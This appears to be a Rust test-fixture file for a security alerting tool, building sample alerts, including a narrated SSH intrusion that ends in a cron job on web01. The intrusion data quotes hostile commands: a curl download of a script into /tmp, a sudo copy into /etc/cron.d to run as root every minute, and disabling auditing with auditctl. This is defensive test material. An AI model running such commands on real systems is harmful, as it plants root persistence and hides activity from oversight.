//! Triggered alerts as a scan gives them: one without a background, an intrusion told in full, an attempt that failed.

use std::collections::BTreeMap;
use std::sync::Arc;
use watchbell_alerts::{Background, Definition, EventRef, PackRef, RuleRef, Scope, Triggered};
use watchbell_jobs::{Job, Kind, Next, Reason, Risk, Run, Verb};
use watchbell_model::{EventId, Ladder, LogSource, Outcome, Priority, Rung, Step, Timestamp};
use watchbell_story::{Chapter, Entry, Gap, GapKind, Join, Lane, Process, Story, Strength};

pub fn at(text: &str) -> Option<Timestamp> {
    Timestamp::parse(text, &jiff::tz::TimeZone::UTC)
}

/// A second of one morning.
fn clock(text: &str) -> Option<Timestamp> {
    at(&format!("2026-11-24T{text}Z"))
}

/// Nothing is known but the event.
pub fn bare() -> Triggered {
    let definition = Definition {
        id: "6f1c2c0e-3a77-4c40-9a43-0f7d9c1f2a10".to_owned(),
        name: "ExampleAlert".to_owned(),
        title: "A task was made".to_owned(),
        pack: Some(PackRef { name: "example".to_owned(), version: "1.2.3".to_owned() }),
        priority: Priority::High,
        attack: vec!["T1053.005".to_owned(), "TA0003".to_owned()],
        summary: "{{ user }} on {{ host }} set up {{ job.name }} for {{ nobody }}".to_owned(),
        description: "It runs <by itself> & stays.".to_owned(),
        triage: vec!["Who is {{ user }}?".to_owned()],
        false_positives: vec!["Installers.".to_owned()],
        respond: vec!["schtasks /query /tn \"{{ job.name }}\"".to_owned()],
        references: Vec::new(),
    };
    let time = at("2026-01-05T10:00:00.123Z");
    let event = EventRef {
        id: EventId([7; 16]),
        file: Arc::from("logs/a.jsonl"),
        lines: Some((3, 5)),
        record: None,
        time,
        source: Arc::new(LogSource::new("windows", "", &["security"])),
    };
    let job = Job { name: Some("\\Up<date>".to_owned()), command: Some("cmd.exe".to_owned()), ..Job::new(Kind::WindowsTask, Verb::Create) };
    Triggered {
        id: EventId([1; 16]),
        definition: Arc::new(definition),
        rules: vec![RuleRef { id: None, title: "Registered".to_owned(), level: Some("high".to_owned()) }],
        priority: Priority::High,
        outcome: Outcome::Done,
        time,
        last: time,
        count: 2,
        entities: vec![("host".to_owned(), "WS1".to_owned()), ("user".to_owned(), "bob\u{1b}[31m".to_owned())],
        job: Some(Arc::new(job)),
        events: vec![event],
        continues: false,
        excepted: None,
        background: None,
    }
}

/// From ssh to the run by cron.
pub fn intrusion() -> Triggered {
    let definition = Definition {
        name: "ExampleCronFile".to_owned(),
        title: "A file was put among cron's".to_owned(),
        attack: vec!["T1053.003".to_owned(), "TA0003".to_owned()],
        summary: "{{ login_user }} put {{ file }} on {{ host }}: {{ job.command }}".to_owned(),
        description: "Whatever stands in such a file is run by cron, as whom the line names.".to_owned(),
        triage: vec!["Does {{ login_user }} work on this host at that hour?".to_owned(), "What does {{ job.command }} do?".to_owned()],
        false_positives: vec!["A package that brings its own cron file.".to_owned()],
        respond: vec!["mv {{ file }} /root/kept/".to_owned(), "ausearch -i --session {{ session }}".to_owned()],
        ..(*bare().definition).clone()
    };
    let job = Job {
        name: Some("/etc/cron.d/health".to_owned()),
        command: Some("/tmp/health.sh".to_owned()),
        schedule: vec!["every minute".to_owned()],
        principal: Some("root".to_owned()),
        ..Job::new(Kind::Cron, Verb::Create)
    };
    let entity = |name: &str, value: &str| (name.to_owned(), value.to_owned());
    Triggered {
        id: EventId([0xa1; 16]),
        definition: Arc::new(definition),
        priority: Priority::VeryHigh,
        time: clock("07:58:40.512"),
        last: clock("07:58:40.512"),
        count: 1,
        entities: vec![
            entity("host", "web01"),
            entity("user", "root"),
            entity("login_user", "alice"),
            entity("file", "/etc/cron.d/health"),
            entity("session", "41"),
        ],
        job: Some(Arc::new(job)),
        events: vec![EventRef { file: Arc::from("var/log/audit/audit.log"), lines: Some((118, 123)), time: clock("07:58:40.512"), ..bare().events.remove(0) }],
        background: Some(Box::new(Background {
            story: story(),
            gaps: gaps(),
            ladder: Arc::new(ladder()),
            scope: Some(Arc::new(scope())),
            next: Some(next()),
            risk: risk(),
        })),
        ..bare()
    }
}

/// Climbs the ladder of the intrusion, on another host.
pub fn looked() -> Triggered {
    let definition = Definition { name: "ExampleCronListed".to_owned(), title: "Cron's jobs were listed".to_owned(), ..(*intrusion().definition).clone() };
    let summary = vec!["alice listed scheduled jobs on <web02>.".to_owned()];
    let (ladder, scope) = (Arc::new(ladder()), Some(Arc::new(scope())));
    let background = Background { story: Story { summary, ..Story::default() }, ladder, scope, ..Background::default() };
    Triggered {
        id: EventId([0xa0; 16]),
        definition: Arc::new(Definition { summary: "{{ login_user }} listed scheduled jobs on {{ host }}".to_owned(), ..definition }),
        priority: Priority::VeryLow,
        count: 2,
        job: None,
        time: clock("07:58:12.204"),
        last: clock("07:58:12.204"),
        entities: vec![("host".to_owned(), "<web02>".to_owned()), ("login_user".to_owned(), "alice".to_owned())],
        background: Some(Box::new(background)),
        ..intrusion()
    }
}

fn scope() -> Scope {
    Scope { id: EventId([0x1a; 16]), lead: EventId([0xa1; 16]), alerts: vec![EventId([0xa0; 16]), EventId([0xa1; 16])], count: 2 }
}

/// Nothing came of it, and nothing is known of a job.
pub fn denied() -> Triggered {
    let steps = BTreeMap::from([
        (Step::Look, Rung { outcome: Outcome::Tried, time: clock("08:01:00"), events: vec![EventId([3; 16])] }),
        (Step::Write, Rung { outcome: Outcome::Failed, time: clock("08:02:00"), events: vec![EventId([4; 16])] }),
    ]);
    let summary = vec!["mallory on web01 wrote to /etc/cron.d/x: tried and failed.".to_owned()];
    let background = Background { story: Story { summary, ..Story::default() }, ladder: Arc::new(Ladder { steps, highest: None }), ..Background::default() };
    Triggered {
        id: EventId([0xd0; 16]),
        priority: Priority::Normal,
        outcome: Outcome::Failed,
        job: None,
        time: clock("08:02:00"),
        entities: vec![("host".to_owned(), "web01".to_owned()), ("user".to_owned(), "mallory".to_owned())],
        background: Some(Box::new(background)),
        ..bare()
    }
}

fn story() -> Story {
    let summary = [
        "alice logged on to web01 by ssh from 10.0.0.5 at 07:58:09 UTC, fetched http://10.0.0.9:8099/health.sh with curl and became root with sudo.",
        "alice put /etc/cron.d/health on web01: /tmp/health.sh.",
        "It runs next at 08:00 UTC, in 41 s, as root.",
    ];
    Story { summary: summary.map(str::to_owned).to_vec(), entries: entries(), processes: processes(), left_out: 3 }
}

#[rustfmt::skip]
fn entries() -> Vec<Entry> {
    use {Chapter as C, Lane as L, Strength as S};
    vec![
        entry(C::Entry, L::Logon, "07:58:09.100", "alice logged in over ssh from 10.0.0.5", S::Exact, "session", "same audit session 41"),
        entry(C::Before, L::Process, "07:58:12.204", "alice ran: crontab -l", S::Exact, "session", "same audit session 41"),
        entry(C::Fetched, L::Process, "07:58:21.377", "curl fetched http://10.0.0.9:8099/health.sh: curl -fsS -o /tmp/health.sh http://10.0.0.9:8099/health.sh", S::Exact, "ppid", "its parent is the session's shell 4100"),
        entry(C::Fetched, L::Network, "07:58:21.402", "curl connected to 10.0.0.9 port 8099", S::Exact, "pid", "done by curl 4120"),
        entry(C::Fetched, L::File, "07:58:21.455", "curl wrote /tmp/health.sh", S::Exact, "pid", "done by curl 4120"),
        Entry { outcome: Outcome::Failed, ..entry(C::SetUp, L::File, "07:58:30.010", "alice was denied to write /etc/cron.d/health", S::Exact, "session", "same audit session 41") },
        entry(C::Before, L::Process, "07:58:40.490", "alice became root with sudo: sudo cp /tmp/health /etc/cron.d/health", S::Exact, "ppid", "its parent is the session's shell 4100"),
        Entry { own: true, ..entry(C::SetUp, L::Job, "07:58:40.512", "alice put /etc/cron.d/health on web01: /tmp/health.sh", S::Exact, "event", "the alert's own event") },
        entry(C::After, L::Job, "07:59:01.000", "cron ran /tmp/health.sh as root", S::Strong, "job", "the job's command, run by cron as the job's principal"),
        Entry { host: Some("db01".to_owned()), ..entry(C::After, L::Logon, "08:41:07.000", "alice logged on to db01 over the network from <b>web01</b>", S::Weak, "account", "same account; the address is the host's of the alert") },
    ]
}

fn entry(chapter: Chapter, lane: Lane, time: &str, text: &str, strength: Strength, by: &'static str, reason: &str) -> Entry {
    Entry {
        chapter,
        lane,
        time: clock(time),
        host: Some("web01".to_owned()),
        text: text.to_owned(),
        event: EventId([9; 16]),
        outcome: Outcome::Done,
        join: Join { strength, by: by.into(), reason: reason.to_owned() },
        own: false,
    }
}

fn processes() -> Vec<Process> {
    let process = |parent: Option<usize>, time: &str, user: &str, pid: &str, image: &str, command: &str| Process {
        parent,
        time: clock(time),
        host: Some("web01".to_owned()),
        user: Some(user.to_owned()),
        pid: Some(pid.to_owned()),
        image: image.to_owned(),
        command: (!command.is_empty()).then(|| command.to_owned()),
        event: Some(EventId([9; 16])),
        own: false,
    };
    vec![
        Process { time: None, event: None, user: None, ..process(None, "", "", "812", "/usr/sbin/sshd", "") },
        process(Some(0), "07:58:09.300", "alice", "4100", "/usr/bin/bash", "-bash"),
        process(Some(1), "07:58:21.377", "alice", "4120", "/usr/bin/curl", "curl -fsS -o /tmp/health.sh http://10.0.0.9:8099/health.sh"),
        process(Some(1), "07:58:40.490", "root", "4131", "/usr/bin/sudo", "sudo cp /tmp/health /etc/cron.d/health"),
        Process { own: true, ..process(Some(3), "07:58:40.510", "root", "4132", "/usr/bin/cp", "cp /tmp/health /etc/cron.d/health") },
    ]
}

fn ladder() -> Ladder {
    let rung = |outcome, time| Rung { outcome, time: clock(time), events: vec![EventId([9; 16])] };
    let steps = BTreeMap::from([
        (Step::Look, rung(Outcome::Done, "07:58:12.204")),
        (Step::Write, rung(Outcome::Done, "07:58:40.512")),
        (Step::Arm, rung(Outcome::Tried, "07:58:41.000")),
        (Step::Run, rung(Outcome::Done, "07:59:01.000")),
        (Step::CleanUp, rung(Outcome::Failed, "08:10:00.000")),
    ]);
    Ladder { steps, highest: Some(Step::Run) }
}

fn gaps() -> Vec<Gap> {
    vec![
        Gap {
            kind: GapKind::AuditingOff,
            from: clock("08:02:00"),
            to: clock("08:40:00"),
            text: "Blind from 08:02:00 UTC: root switched auditing off with auditctl -e 0".to_owned(),
        },
        Gap {
            kind: GapKind::NoCommandLine,
            from: clock("07:59:01"),
            to: None,
            text: "No command line was written for sh: what it was told to do is unknown".to_owned(),
        },
    ]
}

fn next() -> Next {
    let run = |minute: u32| Run { at: clock(&format!("08:{minute:02}:00")).unwrap(), local: format!("2026-11-24T09:{minute:02}:00+01:00"), about: minute == 4 };
    Next { runs: (0..5).map(run).collect(), when: "every minute".to_owned(), certain: true, notes: vec!["cron reads the file within a minute".to_owned()] }
}

fn risk() -> Vec<Risk> {
    vec![
        Risk { reason: Reason::UserWritable, detail: "/tmp/health.sh".to_owned() },
        Risk { reason: Reason::Fetches, detail: "http://10.0.0.9:8099/health.sh".to_owned() },
    ]
}

/// The intrusion, with the same value for everything that comes from a log.
pub fn saying(value: &str) -> Triggered {
    let own = || value.to_owned();
    let mut alert = intrusion();
    let definition = Definition { title: own(), description: own(), triage: vec!["{{ user }}".to_owned()], ..(*alert.definition).clone() };
    alert.definition = Arc::new(definition);
    alert.excepted = Some(own());
    alert.entities.iter_mut().for_each(|(_, text)| *text = own());
    alert.job = alert.job.map(|job| {
        let words = (Some(own()), Some(own()), Some(own()), Some(own()), vec![own()]);
        Arc::new(Job { name: words.0, command: words.1, decoded: words.2, principal: words.3, schedule: words.4, ..(*job).clone() })
    });
    let background = alert.background.as_mut().unwrap();
    background.story.summary = vec![own()];
    for entry in &mut background.story.entries {
        (entry.text, entry.join.reason, entry.host) = (own(), own(), Some(own()));
    }
    for process in &mut background.story.processes {
        (process.image, process.command, process.user) = (own(), Some(own()), Some(own()));
        (process.pid, process.host) = (Some(own()), Some(own()));
    }
    background.gaps.iter_mut().for_each(|gap| gap.text = own());
    background.risk.iter_mut().for_each(|risk| risk.detail = own());
    let next = background.next.as_mut().unwrap();
    (next.when, next.notes) = (own(), vec![own()]);
    next.runs.iter_mut().for_each(|run| run.local = own());
    alert
}
